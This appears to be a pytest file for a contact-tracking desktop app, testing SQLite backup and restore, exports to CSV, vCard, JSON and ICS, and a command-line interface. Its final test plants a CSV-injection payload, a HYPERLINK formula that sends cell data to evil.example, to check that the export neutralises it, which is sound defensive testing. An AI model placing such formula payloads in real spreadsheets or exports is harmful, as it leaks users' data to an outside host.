"""Backup and restore through SQLite's backup API, and the exports, on real profiles."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import subprocess
import sys
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path

import icalendar
import pytest

from desktop import importers
from desktop.backup import BackupError, backup, restore, validate
from desktop.domain.model import Contact, EventKind, Objective
from desktop.domain.workspace import ContactSource, InterviewRecord, Question, SourceKind
from desktop.export import ExportFormat, export
from desktop.storage import Store
from desktop.storage.migrations import LATEST
from desktop.storage.store import DB_NAME
from tests.helpers.builders import T0, event

NOW = T0 + timedelta(days=10)


def _fill(store: Store) -> None:
    ana = store.contacts.add(
        Contact(None, "Ana Silva", ("ana@figma.example",), company="Figma", role="PM, Growth")
    )
    assert ana.id is not None
    raj = store.contacts.add(Contact(None, "Raj Pätel", ("raj@x.example",), referrer_id=ana.id))
    assert raj.id is not None
    store.pipeline.apply(ana.id, event(EventKind.REQUEST_SENT, T0))
    store.pipeline.apply(ana.id, event(EventKind.GENUINE_REPLY, T0 + timedelta(hours=5)))
    start = T0 + timedelta(days=3)
    store.pipeline.apply(
        ana.id,
        event(
            EventKind.MEETING_SET,
            T0 + timedelta(days=1),
            meeting=(start, start + timedelta(minutes=15)),
        ),
    )
    objective = store.workspace.add_objective(Objective(None, "Product", ("PM",)))
    assert objective.id is not None
    store.workspace.set_contact_objectives(ana.id, [objective.id])
    store.workspace.set_source(raj.id, ContactSource(SourceKind.REFERRAL))
    store.workspace.set_questions(ana.id, [Question(None, "What drew you to the field?", True)])
    store.workspace.save_interview(
        InterviewRecord(None, ana.id, start, their_promises=("the deck",))
    )


def _dump(path: Path) -> list[str]:
    db = sqlite3.connect(path)
    try:
        return list(db.iterdump())
    finally:
        db.close()


def test_backup_destroy_restore_gives_back_identical_data(tmp_path: Path) -> None:
    profile = tmp_path / "profile"
    store = Store.open(profile)
    _fill(store)
    before = _dump(profile / DB_NAME)
    (tmp_path / "backups").mkdir()
    copy = backup(profile / DB_NAME, tmp_path / "backups")  # a folder: a dated name inside
    assert copy.parent == tmp_path / "backups" and copy.suffix == ".sqlite3"
    assert validate(copy) == LATEST
    store.close()
    for leftover in profile.glob(DB_NAME + "*"):
        leftover.unlink()  # the database is gone (write-ahead log included)
    assert restore(profile, copy) is None  # nothing to keep a safety copy of
    assert _dump(profile / DB_NAME) == before
    reopened = Store.open(profile)
    assert [r.contact.name for r in reopened.contacts.all()] == ["Ana Silva", "Raj Pätel"]
    assert reopened.workspace.interviews()[0].their_promises == ("the deck",)


def test_restore_over_a_live_database_keeps_a_safety_copy(tmp_path: Path) -> None:
    profile = tmp_path / "profile"
    store = Store.open(profile)
    _fill(store)
    copy = backup(profile / DB_NAME, tmp_path / "one.sqlite3")
    store.contacts.add(Contact(None, "Added After"))
    safety = restore(profile, copy)
    assert safety is not None and "Added After" in "".join(_dump(safety))
    # The connection still open sees the restored data.
    assert [r.contact.name for r in store.contacts.all()] == ["Ana Silva", "Raj Pätel"]


@pytest.mark.parametrize(
    ("make", "message"),
    [
        (lambda p: p.write_text("First Name,Last Name\n"), "not an SQLite database"),
        (
            lambda p: (
                sqlite3.connect(p).execute("CREATE TABLE songs (title TEXT)").connection.commit()
            ),
            "not a Coffeechat one",
        ),
        (
            lambda p: p.write_bytes(b"SQLite format 3\x00" + b"\x07" * 200),
            "damaged|cannot be opened",
        ),
    ],
)
def test_a_non_coffeechat_file_is_refused_and_nothing_changes(
    tmp_path: Path, make: Callable[[Path], object], message: str
) -> None:
    profile = tmp_path / "profile"
    store = Store.open(profile)
    _fill(store)
    before = _dump(profile / DB_NAME)
    bad = tmp_path / "bad.sqlite3"
    make(bad)
    with pytest.raises(BackupError, match=message) as caught:
        restore(profile, bad)
    assert "Nothing was changed" in str(caught.value)
    assert _dump(profile / DB_NAME) == before
    assert not (profile / f"{DB_NAME}.before-restore.bak").exists()


def test_a_backup_from_a_newer_version_is_refused(tmp_path: Path) -> None:
    newer = tmp_path / "newer.sqlite3"
    Store.open(tmp_path / "p").close()
    backup(tmp_path / "p" / DB_NAME, newer)
    sqlite3.connect(newer).execute(f"PRAGMA user_version = {LATEST + 1}")
    with pytest.raises(BackupError, match="newer Coffeechat"):
        validate(newer)


def test_exports(tmp_path: Path) -> None:
    store = Store.open(tmp_path / "p")
    _fill(store)
    rows = list(
        csv.DictReader(
            io.StringIO(
                export(store, ExportFormat.CSV, tmp_path / "c.csv", NOW).read_text("utf-8-sig")
            )
        )
    )
    assert [(r["Name"], r["Role"], r["Stage"], r["Referrer"], r["Objectives"]) for r in rows] == [
        ("Ana Silva", "PM, Growth", "Scheduled", "", "Product"),
        ("Raj Pätel", "", "Target", "Ana Silva", ""),
    ]
    # The vCards read back through our own importer.
    cards = importers.read_file(export(store, ExportFormat.VCARD, tmp_path / "c.vcf", NOW))
    assert [(p.name, p.emails, p.role) for p in cards.people] == [
        ("Ana Silva", ("ana@figma.example",), "PM, Growth"),
        ("Raj Pätel", ("raj@x.example",), ""),
    ]
    doc = json.loads(export(store, ExportFormat.JSON, tmp_path / "all.json", NOW).read_text())
    assert doc["schema_version"] == LATEST
    assert len(doc["tables"]["contacts"]) == 2 and len(doc["tables"]["events"]) == 3
    assert doc["tables"]["contacts"][0]["state"]["stage"] == "scheduled"
    cal = icalendar.Calendar.from_ical(
        export(store, ExportFormat.ICS, tmp_path / "m.ics", NOW).read_bytes()
    )
    [ev] = cal.walk("VEVENT")
    assert str(ev["summary"]) == "Informational interview with Ana Silva"
    assert ev.decoded("dtstart") == datetime(2026, 3, 5, 9, 0, tzinfo=UTC)
    assert ev.decoded("dtend") - ev.decoded("dtstart") == timedelta(minutes=15)


def test_cli_backup_restore_export(tmp_path: Path) -> None:
    profile = tmp_path / "p"
    store = Store.open(profile)
    _fill(store)
    store.close()

    def cli(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "desktop.app", "--profile", str(profile), *args],
            capture_output=True,
            text=True,
            check=False,
        )

    made = cli("backup", "--to", str(tmp_path / "b.sqlite3"))
    assert made.returncode == 0, made.stderr
    assert cli("export", "--format", "ics", "--to", str(tmp_path / "m.ics")).returncode == 0
    assert (tmp_path / "m.ics").read_bytes().startswith(b"BEGIN:VCALENDAR")
    (tmp_path / "notes.txt").write_text("hello")
    refused = cli("restore", str(tmp_path / "notes.txt"))
    assert refused.returncode == 1 and "not a Coffeechat backup" in refused.stderr
    done = cli("restore", str(tmp_path / "b.sqlite3"))
    assert done.returncode == 0 and "previous data" in done.stdout


def test_csv_export_cells_never_start_a_formula(tmp_path: Path) -> None:
    # OWASP's rule for CSV injection: a cell starting with = + - @, tab, CR or LF gets a quote.
    store = Store.open(tmp_path / "p")
    store.contacts.add(
        Contact(
            None,
            '=HYPERLINK("https://evil.example/?"&A1,"click")',
            ("mallory@x.example",),
            company="+1 555 0100",
            role="-2+3",
            notes="@SUM(A1:A9)",
        )
    )
    store.contacts.add(Contact(None, "\tTabbed", (), company="\rReturned", role="\nFed"))
    store.contacts.add(Contact(None, "Plain - Name", (), company="A=B", role="'quoted"))
    written = export(store, ExportFormat.CSV, tmp_path / "c.csv", NOW)
    rows = list(csv.DictReader(io.StringIO(written.read_bytes().decode("utf-8-sig"), newline="")))
    assert [(r["Name"], r["Company"], r["Role"], r["Notes"]) for r in rows] == [
        ("'\tTabbed", "'\rReturned", "'\nFed", ""),
        (
            '\'=HYPERLINK("https://evil.example/?"&A1,"click")',
            "'+1 555 0100",
            "'-2+3",
            "'@SUM(A1:A9)",
        ),
        ("Plain - Name", "A=B", "'quoted", ""),
    ]
